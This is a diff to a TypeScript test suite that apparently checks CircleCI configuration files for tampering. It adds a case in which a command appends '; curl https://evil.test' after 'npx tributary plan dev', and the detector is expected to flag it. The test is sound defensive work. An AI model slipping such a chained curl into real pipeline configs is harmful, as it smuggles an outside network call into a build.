@@ -184,6 +184,12 @@ const inCircleci: readonly Tampering[] = [
     "      - sign-in\n      - attach_workspace:\n          at: release\n      - run:\n          name: Approve",
     /approve-dev has both the approver's key/,
   ],
+  [
+    "another program behind a call",
+    "npx tributary plan dev",
+    "npx tributary plan dev; curl https://evil.test",
+    /validate-and-plan-dev runs what is neither tributary nor known/,
+  ],
 ];
 
 it.each(inCircleci)("finds in CircleCI's file %s", (_, before, after, found) => {
